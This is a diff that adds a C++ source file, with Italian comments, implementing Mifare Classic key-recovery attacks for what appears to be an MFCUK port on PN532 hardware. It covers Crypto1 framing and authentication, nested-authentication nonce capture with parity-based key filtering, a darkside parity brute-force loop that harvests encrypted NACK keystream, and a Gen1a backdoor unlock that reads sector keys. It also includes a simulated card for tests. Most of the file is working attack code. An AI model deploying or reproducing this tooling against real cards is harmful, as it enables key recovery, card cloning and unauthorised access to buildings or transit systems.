@@ -0,0 +1,746 @@
+/**
+ * MFCUK - Acquisizione dei nonce a livello di frame
+ *
+ * Frame, selezione e autenticazione Crypto1 in software sopra un NonceLink,
+ * più la carta simulata usata sull'host e dai test. Il link sul PN532
+ * è in mfcuk_nonce_pn532.cpp.
+ */
+
+#include "mfcuk_nonce.h"
+#include "mfcuk_crypto_prng.h"
+#include <string.h>
+
+#ifndef ARDUINO
+#include <stdio.h>
+#endif
+
+#ifdef ARDUINO
+#define NONCE_LOG(...) Serial.printf(__VA_ARGS__)
+#else
+#define NONCE_LOG(...) printf(__VA_ARGS__)
+#endif
+
+/**
+ * Bit di parità dispari di un byte (come trasmesso da Mifare)
+ */
+static inline uint8_t nonce_odd_parity(uint8_t b) {
+    return crypto1_parity(b) ^ 1;
+}
+
+static inline uint32_t nonce_be32(const uint8_t* p) {
+    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
+}
+
+static inline void nonce_put_be32(uint32_t x, uint8_t* p) {
+    p[0] = x >> 24;
+    p[1] = x >> 16;
+    p[2] = x >> 8;
+    p[3] = x;
+}
+
+// ----- Frame -----
+
+void nonce_crc_a(const uint8_t* data, uint8_t len, uint8_t* crc) {
+    uint16_t c = 0x6363;
+
+    for (uint8_t i = 0; i < len; i++) {
+        uint8_t b = data[i] ^ (uint8_t)c;
+        b ^= b << 4;
+        c = (c >> 8) ^ ((uint16_t)b << 8) ^ ((uint16_t)b << 3) ^ (b >> 4);
+    }
+    crc[0] = c & 0xff;
+    crc[1] = c >> 8;
+}
+
+void nonce_frame_plain(NonceFrame* f, const uint8_t* data, uint8_t len, bool crc) {
+    memcpy(f->data, data, len);
+    if (crc) {
+        nonce_crc_a(data, len, f->data + len);
+        len += 2;
+    }
+    for (uint8_t i = 0; i < len; i++) f->par[i] = nonce_odd_parity(f->data[i]);
+    f->len = len;
+    f->bits = 0;
+}
+
+bool nonce_frame_parity_ok(const NonceFrame* f) {
+    for (uint8_t i = 0; i < f->len; i++) {
+        if (f->par[i] != nonce_odd_parity(f->data[i])) return false;
+    }
+    return true;
+}
+
+uint8_t nonce_frame_pack(const NonceFrame* f, uint8_t* raw, uint8_t* last_bits) {
+    uint16_t pos = 0;
+
+    if (f->bits) {
+        raw[0] = f->data[0] & ((1 << f->bits) - 1);
+        *last_bits = f->bits;
+        return 1;
+    }
+
+    memset(raw, 0, NONCE_RAW_MAX);
+    for (uint8_t i = 0; i < f->len; i++) {
+        uint16_t w = f->data[i] | (uint16_t)(f->par[i] & 1) << 8;
+
+        for (uint8_t j = 0; j < 9; j++, pos++) {
+            raw[pos >> 3] |= ((w >> j) & 1) << (pos & 7);
+        }
+    }
+    *last_bits = pos & 7;
+    return (pos + 7) >> 3;
+}
+
+bool nonce_frame_unpack(const uint8_t* raw, uint8_t n, NonceFrame* rx) {
+    uint16_t pos = 0;
+
+    if (rx->bits) {
+        if (n < 1) return false;
+        rx->data[0] = raw[0] & ((1 << rx->bits) - 1);
+        return true;
+    }
+
+    if ((uint16_t)n * 8 < (uint16_t)rx->len * 9) return false;
+    for (uint8_t i = 0; i < rx->len; i++) {
+        uint16_t w = 0;
+
+        for (uint8_t j = 0; j < 9; j++, pos++) {
+            w |= (uint16_t)((raw[pos >> 3] >> (pos & 7)) & 1) << j;
+        }
+        rx->data[i] = w & 0xff;
+        rx->par[i] = w >> 8;
+    }
+    return true;
+}
+
+/**
+ * Cifra n byte in coda al frame: con feed i byte in chiaro entrano nel LFSR
+ * ({nr}), altrimenti il keystream è generato a ingresso nullo ({ar}, comandi).
+ * La parità di ogni byte è cifrata con il primo bit di keystream del successivo
+ */
+static void nonce_encrypt(Crypto1State* s, const uint8_t* in, uint8_t n, bool feed, NonceFrame* f) {
+    for (uint8_t i = 0; i < n; i++) {
+        uint8_t b = in[i];
+        uint8_t ks;
+
+        crypto1_byte(s, feed ? &b : NULL, &ks, 0);
+        f->data[f->len] = b ^ ks;
+        f->par[f->len] = nonce_odd_parity(b) ^ crypto1_filter(s->odd);
+        f->len++;
+    }
+}
+
+/**
+ * Decifra un frame ricevuto (keystream a ingresso nullo)
+ * @return false se una parità non torna
+ */
+static bool nonce_decrypt(Crypto1State* s, const NonceFrame* f, uint8_t* out) {
+    bool ok = true;
+
+    for (uint8_t i = 0; i < f->len; i++) {
+        uint8_t ks;
+
+        crypto1_byte(s, NULL, &ks, 0);
+        out[i] = f->data[i] ^ ks;
+        ok &= f->par[i] == (nonce_odd_parity(out[i]) ^ crypto1_filter(s->odd));
+    }
+    return ok;
+}
+
+uint32_t nonce_decrypt_nt(uint64_t key, uint32_t uid, uint32_t nt_enc) {
+    Crypto1State s;
+
+    crypto1_init(&s, key);
+    return nt_enc ^ crypto1_word(&s, uid ^ nt_enc, 1);
+}
+
+bool nonce_nested_parity_ok(uint32_t nt, uint32_t nt_enc, uint8_t par) {
+    uint32_t ks = nt ^ nt_enc;
+
+    for (uint8_t i = 0; i < 3; i++) {
+        uint8_t plain = nt >> (24 - 8 * i);
+        uint8_t ks_bit = (ks >> (16 - 8 * i)) & 1;
+
+        if (((par >> i) & 1) != (nonce_odd_parity(plain) ^ ks_bit)) return false;
+    }
+    return true;
+}
+
+uint32_t nonce_nested_guesses(const NonceNested* n, uint32_t lo, uint32_t hi, uint32_t* out, uint32_t max) {
+    uint32_t count = 0;
+    uint32_t nt;
+
+    if (lo > hi) return 0;
+    nt = prng_successor(n->nt, lo);
+    for (uint32_t d = lo; d <= hi && count < max; d++) {
+        if (nonce_nested_parity_ok(nt, n->nt_enc, n->par)) out[count++] = nt;
+        nt = prng_successor(nt, 1);
+    }
+    return count;
+}
+
+bool nonce_nested_key_ok(const NonceNested* n, uint32_t uid, uint64_t key, uint32_t lo, uint32_t hi) {
+    uint32_t dist = nonce_distance(n->nt, nonce_decrypt_nt(key, uid, n->nt_enc));
+
+    return dist != PRNG_DISTANCE_INVALID && dist >= lo && dist <= hi;
+}
+
+crypto1_bs_t nonce_nested_keys_ok(const NonceNested* probes, uint8_t num_probes, uint32_t uid, const uint64_t* keys,
+                                  int num_keys, uint32_t lo, uint32_t hi) {
+    Crypto1EncNonce enc[NONCE_BS_PROBES];
+    uint8_t num_enc = num_probes < NONCE_BS_PROBES ? num_probes : NONCE_BS_PROBES;
+    crypto1_bs_t alive;
+
+    if (num_keys > CRYPTO1_BS_LANES) num_keys = CRYPTO1_BS_LANES;
+    for (uint8_t i = 0; i < num_enc; i++) {
+        enc[i].uid = uid;
+        enc[i].nt_enc = probes[i].nt_enc;
+        enc[i].par = probes[i].par;
+    }
+    alive = crypto1_bs_test_nonce_batch(enc, num_enc, keys, num_keys);
+
+    for (int k = 0; k < num_keys; k++) {
+        if (!(alive & ((crypto1_bs_t)1 << k))) continue;
+        for (uint8_t i = 0; i < num_probes; i++) {
+            if (!nonce_nested_key_ok(&probes[i], uid, keys[k], lo, hi)) {
+                alive &= ~((crypto1_bs_t)1 << k);
+                break;
+            }
+        }
+    }
+    return alive;
+}
+
+// ----- Acquisizione -----
+
+void nonce_acq_init(NonceAcq* a, const NonceLink* link, const uint8_t* uid, uint8_t uid_len) {
+    memset(a, 0, sizeof(*a));
+    a->link = *link;
+    memcpy(a->uid, uid, uid_len);
+    a->uid_len = uid_len;
+    a->uid32 = nonce_be32(uid + uid_len - 4);
+    a->nr = NONCE_READER_NR;
+}
+
+static bool nonce_xfer(NonceAcq* a, const NonceFrame* tx, NonceFrame* rx) {
+    a->frames++;
+    if (a->link.xfer(a->link.ctx, tx, rx)) return true;
+    a->failures++;
+    return false;
+}
+
+/**
+ * WUPA e SELECT di tutti i livelli di cascata, con l'UID già noto
+ */
+static bool nonce_select_once(NonceAcq* a) {
+    uint8_t levels = a->uid_len == 7 ? 2 : 1;
+    uint8_t cmd[7];
+    NonceFrame tx, rx;
+
+    tx.data[0] = NONCE_CMD_WUPA;
+    tx.len = 1;
+    tx.bits = 7;
+    rx.len = 2;
+    rx.bits = 0;
+    if (!nonce_xfer(a, &tx, &rx)) return false;
+
+    for (uint8_t l = 0; l < levels; l++) {
+        cmd[0] = l == 0 ? NONCE_CMD_SEL_CL1 : NONCE_CMD_SEL_CL2;
+        cmd[1] = 0x70;
+        if (levels == 2 && l == 0) {
+            cmd[2] = NONCE_CASCADE_TAG;
+            memcpy(cmd + 3, a->uid, 3);
+        } else {
+            memcpy(cmd + 2, a->uid + a->uid_len - 4, 4);
+        }
+        cmd[6] = cmd[2] ^ cmd[3] ^ cmd[4] ^ cmd[5];
+
+        nonce_frame_plain(&tx, cmd, sizeof(cmd), true);
+        rx.len = 3;
+        if (!nonce_xfer(a, &tx, &rx) || !nonce_frame_parity_ok(&rx)) return false;
+
+        // Il bit di cascata del SAK è presente solo nei livelli intermedi
+        if (((rx.data[0] & 0x04) != 0) != (l + 1 < levels)) return false;
+    }
+    return true;
+}
+
+bool nonce_select(NonceAcq* a) {
+    static const uint8_t halt[2] = {NONCE_CMD_HALT, 0x00};
+    NonceFrame tx;
+
+    for (uint8_t attempt = 0; attempt < NONCE_SELECT_RETRIES; attempt++) {
+        // Una carta in mezzo a un'autenticazione non risponde a WUPA: il
+        // HALT (non valido in quello stato) la riporta in IDLE
+        if (a->pending) {
+            nonce_frame_plain(&tx, halt, sizeof(halt), true);
+            a->frames++;
+            a->link.xfer(a->link.ctx, &tx, NULL);
+            a->pending = false;
+        }
+        if (nonce_select_once(a)) {
+            a->selects++;
+            return true;
+        }
+        a->pending = true;
+    }
+    return false;
+}
+
+/**
+ * AUTH in chiaro su una carta selezionata
+ */
+static bool nonce_send_auth(NonceAcq* a, uint8_t block, uint8_t key_type, uint32_t* nt) {
+    uint8_t cmd[2] = {(uint8_t)(key_type ? NONCE_CMD_AUTH_B : NONCE_CMD_AUTH_A), block};
+    NonceFrame tx, rx;
+
+    nonce_frame_plain(&tx, cmd, sizeof(cmd), true);
+    rx.len = 4;
+    rx.bits = 0;
+    a->pending = true;
+    if (!nonce_xfer(a, &tx, &rx)) return false;
+    if (!nonce_frame_parity_ok(&rx)) {
+        a->failures++;
+        return false;
+    }
+    *nt = nonce_be32(rx.data);
+    return true;
+}
+
+bool nonce_field_reset(NonceAcq* a) {
+    a->field_resets++;
+    a->pending = false;
+    return a->link.field_reset(a->link.ctx);
+}
+
+bool nonce_get_nt(NonceAcq* a, uint8_t block, uint8_t key_type, uint32_t* nt) {
+    if (!nonce_select(a) || !nonce_send_auth(a, block, key_type, nt)) return false;
+    a->nonces++;
+    return true;
+}
+
+int nonce_auth(NonceAcq* a, uint64_t key, uint8_t block, uint8_t key_type, Crypto1State* s, uint32_t* nt) {
+    uint8_t nr[4], ar[4], at[4];
+    uint32_t n;
+    NonceFrame tx, rx;
+
+    if (!nonce_select(a) || !nonce_send_auth(a, block, key_type, &n)) return -1;
+
+    crypto1_init(s, key);
+    crypto1_word(s, a->uid32 ^ n, 0);
+    nonce_put_be32(a->nr, nr);
+    nonce_put_be32(prng_successor(n, 64), ar);
+
+    tx.len = 0;
+    tx.bits = 0;
+    nonce_encrypt(s, nr, 4, true, &tx);
+    nonce_encrypt(s, ar, 4, false, &tx);
+
+    // Con la chiave sbagliata la carta tace (o manda un NACK di 4 bit)
+    rx.len = 4;
+    rx.bits = 0;
+    a->frames++;
+    if (!a->link.xfer(a->link.ctx, &tx, &rx)) return 0;
+    if (!nonce_decrypt(s, &rx, at) || nonce_be32(at) != prng_successor(n, 96)) return 0;
+
+    if (nt) *nt = n;
+    return 1;
+}
+
+int nonce_nested(NonceAcq* a, uint64_t key, uint8_t block, uint8_t key_type, uint8_t target_block,
+                 uint8_t target_key_type, bool calibrate, NonceNested* out) {
+    uint8_t cmd[4] = {(uint8_t)(target_key_type ? NONCE_CMD_AUTH_B : NONCE_CMD_AUTH_A), target_block};
+    Crypto1State s;
+    NonceFrame tx, rx;
+    int r;
+
+    r = nonce_auth(a, key, block, key_type, &s, &out->nt);
+    if (r <= 0) return r;
+
+    nonce_crc_a(cmd, 2, cmd + 2);
+    tx.len = 0;
+    tx.bits = 0;
+    nonce_encrypt(&s, cmd, sizeof(cmd), false, &tx);
+    rx.len = 4;
+    rx.bits = 0;
+    if (!nonce_xfer(a, &tx, &rx)) return -1;
+
+    out->nt_enc = nonce_be32(rx.data);
+    out->par = 0;
+    for (uint8_t i = 0; i < 4; i++) out->par |= (rx.par[i] & 1) << i;
+
+    if (calibrate) {
+        out->nt2 = nonce_decrypt_nt(key, a->uid32, out->nt_enc);
+        out->distance = nonce_distance(out->nt, out->nt2);
+    } else {
+        out->nt2 = 0;
+        out->distance = PRNG_DISTANCE_INVALID;
+    }
+    a->nonces++;
+    return 1;
+}
+
+int nonce_darkside_probe(NonceAcq* a, uint8_t block, uint8_t key_type, uint32_t nr_enc, uint32_t ar_enc,
+                         uint8_t par, bool sync, uint32_t* nt, uint8_t* nack) {
+    NonceFrame tx, rx;
+
+    if (sync && !nonce_field_reset(a)) return -1;
+    if (!nonce_select(a) || !nonce_send_auth(a, block, key_type, nt)) return -1;
+    a->nonces++;
+
+    nonce_put_be32(nr_enc, tx.data);
+    nonce_put_be32(ar_enc, tx.data + 4);
+    for (uint8_t i = 0; i < 8; i++) tx.par[i] = (par >> i) & 1;
+    tx.len = 8;
+    tx.bits = 0;
+
+    // Il silenzio è la risposta normale a parità sbagliate: non è un errore
+    rx.len = 0;
+    rx.bits = 4;
+    a->frames++;
+    if (!a->link.xfer(a->link.ctx, &tx, &rx)) return 0;
+    *nack = rx.data[0] & 0x0F;
+    return 1;
+}
+
+bool nonce_darkside_run(NonceAcq* a, uint8_t block, uint8_t key_type, uint32_t nr_enc, uint32_t ar_enc,
+                        uint32_t max_probes, DarksideRun* run) {
+    uint32_t probes = 0;
+    bool have_nt = false;
+    uint8_t prefix = 0;
+
+    run->nr_enc = nr_enc & ~0xe0UL;
+    run->ar_enc = ar_enc;
+
+    for (uint32_t c = 0; c < 8; c++) {
+        uint32_t nr_c = run->nr_enc | (c << 5);
+        uint16_t combos = c == 0 ? 256 : 32;
+        uint16_t p = 0;
+        uint8_t par = 0, nack = 0;
+        bool found = false;
+
+        while (p < combos && !found) {
+            uint32_t nt;
+            int r;
+
+            par = c == 0 ? (uint8_t)p : (uint8_t)(prefix | p << 3);
+            if (probes++ >= max_probes) return false;
+
+            r = nonce_darkside_probe(a, block, key_type, nr_c, ar_enc, par, true, &nt, &nack);
+            if (r < 0) return false;
+
+            // Risposte a un nt diverso non valgono per il round: si ripete
+            if (!have_nt) {
+                run->nt = nt;
+                have_nt = true;
+            } else if (nt != run->nt) {
+                continue;
+            }
+            if (r > 0) found = true;
+            else p++;
+        }
+        if (!found) return false;
+
+        if (c == 0) prefix = par & 0x07;
+        for (uint8_t i = 0; i < 8; i++) run->par[c][i] = (par >> i) & 1;
+        run->ks[c] = nack ^ NONCE_NACK;
+    }
+    return true;
+}
+
+bool nonce_gen1a_unlock(NonceAcq* a) {
+    static const uint8_t halt[2] = {NONCE_CMD_HALT, 0x00};
+    uint8_t wupc2 = NONCE_GEN1A_WUPC2;
+    NonceFrame tx, rx;
+
+    nonce_frame_plain(&tx, halt, sizeof(halt), true);
+    a->frames++;
+    a->link.xfer(a->link.ctx, &tx, NULL);
+    a->pending = true;
+
+    // Una carta normale resta in silenzio: non è un frame fallito
+    tx.data[0] = NONCE_GEN1A_WUPC1;
+    tx.len = 1;
+    tx.bits = 7;
+    rx.len = 0;
+    rx.bits = 4;
+    a->frames++;
+    if (!a->link.xfer(a->link.ctx, &tx, &rx) || rx.data[0] != NONCE_GEN1A_ACK) return false;
+
+    nonce_frame_plain(&tx, &wupc2, 1, false);
+    return nonce_xfer(a, &tx, &rx) && rx.data[0] == NONCE_GEN1A_ACK;
+}
+
+bool nonce_gen1a_read(NonceAcq* a, uint8_t block, uint8_t* data) {
+    uint8_t cmd[2] = {NONCE_CMD_READ, block};
+    uint8_t crc[2];
+    NonceFrame tx, rx;
+
+    nonce_frame_plain(&tx, cmd, sizeof(cmd), true);
+    rx.len = 18;
+    rx.bits = 0;
+    if (!nonce_xfer(a, &tx, &rx) || !nonce_frame_parity_ok(&rx)) return false;
+
+    nonce_crc_a(rx.data, 16, crc);
+    if (crc[0] != rx.data[16] || crc[1] != rx.data[17]) return false;
+    memcpy(data, rx.data, 16);
+    return true;
+}
+
+void nonce_acq_report(const NonceAcq* a, uint32_t elapsed_ms) {
+    NONCE_LOG("[MFCUK] Acquisizione: %u nonce, %u frame (%u senza risposta), %u selezioni, %u reset del campo",
+              (unsigned)a->nonces, (unsigned)a->frames, (unsigned)a->failures, (unsigned)a->selects,
+              (unsigned)a->field_resets);
+    if (elapsed_ms) {
+        NONCE_LOG(", %u ms (%u nonce/s)", (unsigned)elapsed_ms, (unsigned)(a->nonces * 1000 / elapsed_ms));
+    }
+    NONCE_LOG("\n");
+}
+
+// ----- Carta simulata -----
+
+#define MOCK_IDLE    0
+#define MOCK_READY   1
+#define MOCK_READY2  2     // Primo livello di cascata selezionato (UID da 7 byte)
+#define MOCK_ACTIVE  3
+#define MOCK_AUTH    4     // nt inviato, attesa di {nr}{ar}
+#define MOCK_HALT    5
+#define MOCK_WUPC    6     // Primo comando della backdoor ricevuto
+#define MOCK_BACKDOOR 7    // Letture senza autenticazione
+
+void nonce_mock_init(NonceMockCard* m, const uint8_t* uid, uint8_t uid_len, uint64_t key_a, uint64_t key_b) {
+    memset(m, 0, sizeof(*m));
+    memcpy(m->uid, uid, uid_len);
+    m->uid_len = uid_len;
+    m->atqa = uid_len == 7 ? 0x0044 : 0x0004;
+    m->sak = 0x08;
+    m->keys[0] = key_a;
+    m->keys[1] = key_b;
+    m->steps_per_frame = 160;
+    m->state = MOCK_IDLE;
+}
+
+static bool mock_field_reset(void* ctx) {
+    NonceMockCard* m = (NonceMockCard*)ctx;
+
+    m->clock = 0;
+    m->state = MOCK_IDLE;
+    m->crypto = false;
+    return true;
+}
+
+/**
+ * Nonce della prossima autenticazione secondo il tipo di PRNG simulato
+ */
+static uint32_t mock_next_nt(const NonceMockCard* m) {
+    uint32_t x;
+
+    if (m->static_nonce) return PRNG_REFERENCE_NONCE;
+    if (!m->hardened) return prng_successor(PRNG_REFERENCE_NONCE, m->clock);
+
+    // Carte con PRNG rinforzato: nonce senza relazione tra loro
+    x = (m->clock + 1) * 0x9E3779B1u;
+    x ^= x >> 16;
+    x *= 0x85EBCA6Bu;
+    return x ^ (x >> 13);
+}
+
+/**
+ * Un errore di protocollo riporta la carta in IDLE senza risposta
+ */
+static bool mock_error(NonceMockCard* m) {
+    if (m->state != MOCK_HALT) m->state = MOCK_IDLE;
+    m->crypto = false;
+    return false;
+}
+
+/**
+ * Risposta a {nr}{ar}: {at} se ar è corretto, NACK cifrato se sono corrette
+ * solo le parità, silenzio altrimenti
+ */
+static bool mock_auth_reply(NonceMockCard* m, const NonceFrame* tx, NonceFrame* resp) {
+    uint8_t plain[8], at[4];
+    bool par_ok = true;
+
+    if (tx->bits || tx->len != 8) return mock_error(m);
+
+    for (uint8_t i = 0; i < 8; i++) {
+        uint8_t b = tx->data[i], ks;
+
+        crypto1_byte(&m->cs, i < 4 ? &b : NULL, &ks, i < 4);
+        plain[i] = tx->data[i] ^ ks;
+        par_ok &= tx->par[i] == (nonce_odd_parity(plain[i]) ^ crypto1_filter(m->cs.odd));
+    }
+    if (!par_ok) return mock_error(m);
+
+    if (nonce_be32(plain + 4) != prng_successor(m->nt, 64)) {
+        uint8_t ks = 0;
+
+        for (uint8_t k = 0; k < 4; k++) ks |= crypto1_bit(&m->cs, 0, 0) << k;
+        resp->data[0] = NONCE_NACK ^ ks;
+        resp->len = 0;
+        resp->bits = 4;
+        m->state = MOCK_IDLE;
+        m->crypto = false;
+        return true;
+    }
+
+    nonce_put_be32(prng_successor(m->nt, 96), at);
+    resp->len = 0;
+    resp->bits = 0;
+    nonce_encrypt(&m->cs, at, 4, false, resp);
+    m->state = MOCK_ACTIVE;
+    m->crypto = true;
+    return true;
+}
+
+static bool mock_process(NonceMockCard* m, const NonceFrame* tx, NonceFrame* resp) {
+    uint8_t cmd[NONCE_FRAME_MAX], crc[2];
+    uint32_t uid32 = nonce_be32(m->uid + m->uid_len - 4);
+
+    // Backdoor Gen1a: 0x40 a 7 bit e 0x43 senza CRC, con ACK di 4 bit
+    if (m->gen1a && tx->bits == 7 && tx->data[0] == NONCE_GEN1A_WUPC1 &&
+        (m->state == MOCK_IDLE || m->state == MOCK_HALT)) {
+        resp->data[0] = NONCE_GEN1A_ACK;
+        resp->len = 0;
+        resp->bits = 4;
+        m->state = MOCK_WUPC;
+        return true;
+    }
+    if (m->state == MOCK_WUPC && !tx->bits && tx->len == 1 && tx->data[0] == NONCE_GEN1A_WUPC2) {
+        resp->data[0] = NONCE_GEN1A_ACK;
+        resp->len = 0;
+        resp->bits = 4;
+        m->state = MOCK_BACKDOOR;
+        return true;
+    }
+
+    if (tx->bits == 7) {
+        bool wake = tx->data[0] == NONCE_CMD_WUPA ? (m->state == MOCK_IDLE || m->state == MOCK_HALT)
+                                                  : (tx->data[0] == NONCE_CMD_REQA && m->state == MOCK_IDLE);
+        if (!wake) return mock_error(m);
+
+        uint8_t atqa[2] = {(uint8_t)(m->atqa & 0xff), (uint8_t)(m->atqa >> 8)};
+        nonce_frame_plain(resp, atqa, 2, false);
+        m->state = MOCK_READY;
+        m->crypto = false;
+        return true;
+    }
+    if (tx->bits || tx->len < 3) return mock_error(m);
+    if (m->state == MOCK_AUTH) return mock_auth_reply(m, tx, resp);
+
+    // Comando in chiaro o cifrato, sempre con CRC
+    if (m->crypto) {
+        if (!nonce_decrypt(&m->cs, tx, cmd)) return mock_error(m);
+    } else {
+        if (!nonce_frame_parity_ok(tx)) return mock_error(m);
+        memcpy(cmd, tx->data, tx->len);
+    }
+    nonce_crc_a(cmd, tx->len - 2, crc);
+    if (crc[0] != cmd[tx->len - 2] || crc[1] != cmd[tx->len - 1]) return mock_error(m);
+
+    switch (m->state) {
+        case MOCK_READY:
+        case MOCK_READY2: {
+            bool cascade = m->uid_len == 7 && m->state == MOCK_READY;
+            uint8_t expect[4], sak;
+
+            if (cascade) {
+                expect[0] = NONCE_CASCADE_TAG;
+                memcpy(expect + 1, m->uid, 3);
+            } else {
+                memcpy(expect, m->uid + m->uid_len - 4, 4);
+            }
+            if (tx->len != 9 || cmd[0] != (m->state == MOCK_READY ? NONCE_CMD_SEL_CL1 : NONCE_CMD_SEL_CL2) ||
+                cmd[1] != 0x70 || memcmp(cmd + 2, expect, 4) != 0 ||
+                cmd[6] != (expect[0] ^ expect[1] ^ expect[2] ^ expect[3])) {
+                return mock_error(m);
+            }
+            sak = cascade ? 0x04 : m->sak;
+            nonce_frame_plain(resp, &sak, 1, true);
+            m->state = cascade ? MOCK_READY2 : MOCK_ACTIVE;
+            return true;
+        }
+
+        case MOCK_ACTIVE:
+            if (tx->len == 4 && (cmd[0] == NONCE_CMD_AUTH_A || cmd[0] == NONCE_CMD_AUTH_B)) {
+                uint8_t nt[4];
+                bool nested = m->crypto;
+
+                m->nt = mock_next_nt(m);
+                nonce_put_be32(m->nt, nt);
+                crypto1_init(&m->cs, m->keys[cmd[0] & 1]);
+
+                if (nested) {
+                    // {nt}: keystream di uid^nt, parità cifrate come i dati
+                    resp->len = 0;
+                    resp->bits = 0;
+                    for (uint8_t i = 0; i < 4; i++) {
+                        uint8_t in = nt[i] ^ (uint8_t)(uid32 >> (24 - 8 * i)), ks;
+
+                        crypto1_byte(&m->cs, &in, &ks, 0);
+                        resp->data[i] = nt[i] ^ ks;
+                        resp->par[i] = nonce_odd_parity(nt[i]) ^ crypto1_filter(m->cs.odd);
+                        resp->len++;
+                    }
+                } else {
+                    crypto1_word(&m->cs, uid32 ^ m->nt, 0);
+                    nonce_frame_plain(resp, nt, 4, false);
+                }
+                m->state = MOCK_AUTH;
+                m->crypto = false;
+                return true;
+            }
+            if (tx->len == 4 && cmd[0] == NONCE_CMD_HALT && cmd[1] == 0x00) {
+                m->state = MOCK_HALT;
+                m->crypto = false;
+                return false;
+            }
+            return mock_error(m);
+
+        case MOCK_BACKDOOR:
+            // Il trailer di ogni settore contiene le chiavi vere
+            if (tx->len == 4 && cmd[0] == NONCE_CMD_READ) {
+                uint8_t block[16] = {0};
+
+                if ((cmd[1] % 4) == 3) {
+                    static const uint8_t access[4] = {0xFF, 0x07, 0x80, 0x69};
+
+                    for (uint8_t i = 0; i < 6; i++) {
+                        block[i] = m->keys[0] >> (40 - 8 * i);
+                        block[10 + i] = m->keys[1] >> (40 - 8 * i);
+                    }
+                    memcpy(block + 6, access, 4);
+                }
+                nonce_frame_plain(resp, block, 16, true);
+                return true;
+            }
+            return mock_error(m);
+
+        default:
+            return mock_error(m);
+    }
+}
+
+static bool mock_xfer(void* ctx, const NonceFrame* tx, NonceFrame* rx) {
+    NonceMockCard* m = (NonceMockCard*)ctx;
+    NonceFrame resp;
+    bool answered = mock_process(m, tx, &resp);
+
+    m->clock += m->steps_per_frame;
+    m->frames++;
+    if (rx == NULL) return true;
+    if (!answered) return false;
+
+    // Risposta più corta di quella attesa (es. NACK al posto di {at})
+    if (resp.bits != rx->bits || resp.len < rx->len) return false;
+    memcpy(rx->data, resp.data, sizeof(resp.data));
+    memcpy(rx->par, resp.par, sizeof(resp.par));
+    return true;
+}
+
+void nonce_mock_link(NonceMockCard* m, NonceLink* link) {
+    link->xfer = mock_xfer;
+    link->field_reset = mock_field_reset;
+    link->ctx = m;
+}